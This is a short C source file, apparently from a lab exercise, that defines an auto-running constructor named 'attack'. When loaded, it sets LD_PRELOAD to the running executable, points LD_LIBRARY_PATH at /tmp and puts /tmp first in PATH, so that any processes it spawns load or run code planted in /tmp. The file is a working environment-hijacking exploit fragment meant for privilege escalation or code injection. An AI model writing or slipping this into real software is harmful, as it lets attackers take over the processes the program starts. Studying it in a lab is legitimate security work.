/* Its own library is to be in the command. */
#include <stdlib.h>

#include "lab/uts.c"

__attribute__((constructor)) static void attack(void)
{
	setenv("LD_PRELOAD", "/proc/self/exe", 1);
	setenv("LD_LIBRARY_PATH", "/tmp", 1);
	setenv("PATH", "/tmp:/usr/bin:/bin", 1);
}
